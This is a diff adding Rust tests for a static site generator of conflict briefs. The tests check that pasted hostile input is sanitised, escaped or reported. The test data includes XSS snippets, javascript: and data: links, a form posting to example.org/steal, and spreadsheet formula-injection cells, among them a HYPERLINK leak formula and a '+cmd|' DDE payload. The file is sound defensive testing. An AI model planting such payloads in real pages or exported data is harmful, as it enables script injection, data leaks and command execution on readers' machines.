@@ -1,0 +1,204 @@
+//! Hostile input: briefs, profiles and pages pasted from anywhere must not
+//! run script in a reader's browser, and `check` says where each unsafe
+//! address is. (Issue 12; the other kinds of hostile input are added here
+//! as they are handled.)
+
+use crate::browser::{StaticServer, dump_dom};
+use crate::harness::{MINIMAL_CONFIG, SiteTest};
+
+/// Raw HTML that runs script, each piece marking the page if it ran. No
+/// Markdown link here has a bad scheme, so the site builds (with warnings).
+const RAW_HTML_ATTACKS: &str = concat!(
+    "<script>document.documentElement.dataset.ran = 'script'</script>\n\n",
+    "<img src=\"missing.png\" onerror=\"document.documentElement.dataset.ran = 'onerror'\">\n\n",
+    "<svg onload=\"document.documentElement.dataset.ran = 'svg'\"></svg>\n\n",
+    "<details open ontoggle=\"document.documentElement.dataset.ran = 'ontoggle'\"><summary>Kept</summary>Detail</details>\n\n",
+    "<iframe srcdoc=\"<script>parent.document.documentElement.dataset.ran = 'iframe'</script>\"></iframe>\n\n",
+    "<form action=\"https://example.org/steal\"><input name=q></form>\n\n",
+    "<base href=\"https://example.org/\">\n\n",
+    "<meta http-equiv=\"refresh\" content=\"0; url=https://example.org/\">\n\n",
+    "<p style=\"background: url(https://example.org/track.png); text-align: center\">Styled</p>\n\n",
+    "<table><tr><td>Cell<sup>1</sup></td></tr></table>\n",
+);
+
+fn hostile_site(config: &str) -> SiteTest {
+    let site = SiteTest::new();
+    site.file("site.yaml", config)
+        .file(
+            "content/briefs/hostile.md",
+            &format!(
+                "---\ntitle: Synthetic hostile brief\ndate: 2023-01-01\ncountry: NE\narmed_groups: [Synthetic Group]\n---\n{RAW_HTML_ATTACKS}"
+            ),
+        )
+        .file("content/groups/synthetic-group.md", &format!("---\nname: Synthetic Group\n---\n{RAW_HTML_ATTACKS}"))
+        .file("content/countries/niger.md", &format!("---\ncountry: NE\n---\n{RAW_HTML_ATTACKS}"))
+        .file("content/about.md", &format!("---\ntitle: About\n---\n{RAW_HTML_ATTACKS}"));
+    site
+}
+
+const PAGES: [&str; 4] =
+    ["briefs/hostile/index.html", "groups/synthetic-group/index.html", "countries/ne/index.html", "about/index.html"];
+
+#[test]
+fn raw_html_that_runs_script_is_removed_by_default_and_check_says_so() {
+    let site = hostile_site(MINIMAL_CONFIG);
+    let run = site.build().success();
+    let out = run.stderr();
+    // One warning per removed piece, at its line: the brief's body starts on line 7.
+    assert!(out.contains("warning[raw-html-removed]: raw HTML `<script>` is removed from the page\n  --> content/briefs/hostile.md:7:1\n"), "{out}");
+    assert!(out.contains("warning[raw-html-removed]: the attribute `onerror` of `<img>` is removed from the page\n  --> content/briefs/hostile.md:9:1\n"), "{out}");
+    for file in ["content/about.md", "content/groups/synthetic-group.md", "content/countries/niger.md"] {
+        assert!(out.contains(&format!("--> {file}:")), "{file} is checked too: {out}");
+    }
+    for rel in PAGES {
+        let html = site.read(rel);
+        for gone in [
+            "<script>document",
+            "onerror",
+            "onload",
+            "ontoggle",
+            "<iframe",
+            "<form",
+            "<base",
+            "http-equiv",
+            "background",
+            "<svg",
+        ] {
+            assert!(!html.contains(gone), "{rel} keeps {gone}");
+        }
+        let page = site.page(rel);
+        assert_eq!(page.text("details summary"), "Kept", "{rel}");
+        assert_eq!(page.attrs("main p[style]", "style"), ["text-align:center"], "{rel}");
+        assert_eq!(page.texts("main td sup"), ["1"], "{rel}");
+    }
+    // With --strict, removals are errors: nothing is published.
+    let strict = site.run(&["check", "--strict"]);
+    assert_eq!(strict.code(), 1, "{}", strict.stderr());
+}
+
+#[test]
+fn no_hostile_piece_runs_in_a_browser() {
+    let site = hostile_site(MINIMAL_CONFIG);
+    site.build().success();
+    let server = StaticServer::start(&site.public());
+    let profile = tempfile::tempdir().unwrap();
+    for rel in PAGES {
+        let dom = dump_dom(&format!("http://127.0.0.1:{}/{rel}", server.port), profile.path());
+        assert!(!dom.contains("data-ran"), "script ran on {rel}: {dom}");
+        assert!(dom.contains("Synthetic") || dom.contains("About"), "{rel} did not load: {dom}");
+    }
+}
+
+#[test]
+fn escape_shows_raw_html_as_text_and_allow_keeps_it() {
+    let escaped = hostile_site("title: Test\nmarkdown:\n  raw_html: escape\n");
+    let run = escaped.build().success();
+    assert!(!run.stderr().contains("raw-html-removed"), "{}", run.stderr());
+    let html = escaped.read("briefs/hostile/index.html");
+    assert!(html.contains("&lt;script&gt;document.documentElement.dataset.ran"), "{html}");
+    assert!(!html.contains("<script>document"), "{html}");
+
+    let allowed = hostile_site("title: Test\nmarkdown:\n  raw_html: allow\n");
+    let run = allowed.build().success();
+    assert!(!run.stderr().contains("raw-html-removed"), "{}", run.stderr());
+    assert!(allowed.read("briefs/hostile/index.html").contains("<script>document.documentElement.dataset.ran"));
+
+    let unknown = hostile_site("title: Test\nmarkdown:\n  raw_html: strip\n");
+    let run = unknown.check();
+    assert_eq!(run.code(), 1);
+    assert!(run.stderr().contains("site.yaml:3:"), "{}", run.stderr());
+    assert!(run.stderr().contains("sanitize"), "the error lists the choices: {}", run.stderr());
+}
+
+#[test]
+fn unsafe_addresses_are_errors_at_their_lines_in_every_mode() {
+    for mode in ["sanitize", "escape", "allow"] {
+        let site = SiteTest::new();
+        site.file("site.yaml", &format!("title: Test\nmarkdown:\n  raw_html: {mode}\n")).file(
+            "content/briefs/links.md",
+            concat!(
+                "---\ntitle: Synthetic links\ndate: 2023-01-01\ncountry: NE\n---\n",
+                "[a](javascript:alert(1)) and ![b](JaVaScRiPt:alert(2))\n",
+                "\n",
+                "[c](&#106;avascript:alert(3)) [d][ref] <vbscript:x>\n",
+                "\n",
+                "[ref]: data:text/html,<script>alert(4)</script>\n",
+                "\n",
+                "Fine: [e](https://example.org/) [f](/briefs/links/) [g](mailto:desk@example.org) [h](#top)\n",
+            ),
+        );
+        let run = site.check();
+        assert_eq!(run.code(), 1, "{mode}: {}", run.stderr());
+        let out = run.stderr();
+        for at in ["6:1", "6:30", "8:1", "8:31", "8:40"] {
+            assert!(out.contains(&format!("--> content/briefs/links.md:{at}\n")), "{mode}: no error at {at}: {out}");
+        }
+        assert_eq!(out.matches("error[unsafe-address]").count(), 5, "{mode}: {out}");
+        assert!(!site.public().exists(), "{mode}: check writes nothing");
+    }
+    // In raw HTML too, unless it is shown as text.
+    let site = SiteTest::new();
+    site.file(
+        "content/briefs/html.md",
+        "---\ntitle: Synthetic links\ndate: 2023-01-01\ncountry: NE\n---\nText <a href=\"java&#x09;script:x\">y</a>\n",
+    );
+    let run = site.check();
+    assert!(run.stderr().contains("error[unsafe-address]: `java\tscript:x` is neither"), "{}", run.stderr());
+    assert!(run.stderr().contains("--> content/briefs/html.md:6:6\n"), "{}", run.stderr());
+}
+
+#[test]
+fn site_addresses_and_aliases_are_checked_at_their_lines() {
+    let site = SiteTest::new();
+    site.file("site.yaml", "title: Test\nbase_url: javascript:alert(1)//\n");
+    let run = site.check();
+    assert_eq!(run.code(), 1, "{}", run.stderr());
+    assert!(run.stderr().contains("--> site.yaml:2:11\n"), "{}", run.stderr());
+
+    site.file("site.yaml", "title: Test\ncname: https://briefs.example.org/\n");
+    let run = site.check();
+    assert_eq!(run.code(), 1, "{}", run.stderr());
+    assert!(run.stderr().contains("is not a domain name\n  --> site.yaml:2:8\n"), "{}", run.stderr());
+
+    site.file("site.yaml", MINIMAL_CONFIG).file(
+        "content/briefs/x.md",
+        "---\ntitle: Synthetic\ndate: 2023-01-01\ncountry: NE\naliases: [/ok/, //evil.example/, \"/a\\\"><script>/\", /a/../../b/]\n---\n",
+    );
+    let run = site.check();
+    assert_eq!(run.code(), 1, "{}", run.stderr());
+    assert_eq!(run.stderr().matches("error[invalid-alias]").count(), 3, "{}", run.stderr());
+}
+
+#[test]
+fn csv_cells_that_spreadsheets_would_run_are_plain_text() {
+    let site = SiteTest::new();
+    site.file(
+        "content/briefs/formula.md",
+        concat!(
+            "---\ntitle: Synthetic formulas\ndate: 2023-01-01\ncountry: NE\n",
+            "summary: '=HYPERLINK(\"https://example.org/?leak=\"&A1, \"Click\")'\n",
+            "location: +cmd|' /C calc'!A0\n",
+            "armed_groups: ['@SUM(1+1)']\n",
+            "targets: [\"\\tTabbed target\"]\n",
+            "sub_event_type: '-2+3'\n",
+            "tags: [\"=1+1\"]\n",
+            "coordinates: {lat: -13.5, lon: -1.25}\n",
+            "---\n",
+        ),
+    );
+    site.build().success();
+    for rel in ["data/incidents.csv", "countries/ne/incidents.csv", "groups/sum-1-1/incidents.csv"] {
+        let mut reader = csv::ReaderBuilder::new().from_path(site.public().join(rel)).unwrap();
+        let header = reader.headers().unwrap().clone();
+        let row = reader.records().nth(1).unwrap().unwrap(); // after the HXL row
+        let cell = |name: &str| row.get(header.iter().position(|h| h == name).unwrap()).unwrap().to_string();
+        assert_eq!(cell("notes"), "'=HYPERLINK(\"https://example.org/?leak=\"&A1, \"Click\")", "{rel}");
+        assert_eq!(cell("location"), "'+cmd|' /C calc'!A0", "{rel}");
+        assert_eq!(cell("actor1"), "'@SUM(1+1)", "{rel}");
+        assert_eq!(cell("actor2"), "'\tTabbed target", "{rel}");
+        assert_eq!(cell("sub_event_type"), "'-2+3", "{rel}");
+        assert_eq!(cell("tags"), "'=1+1", "{rel}");
+        // Numbers stay numbers.
+        assert_eq!((cell("latitude").as_str(), cell("longitude").as_str()), ("-13.5", "-1.25"), "{rel}");
+    }
+}
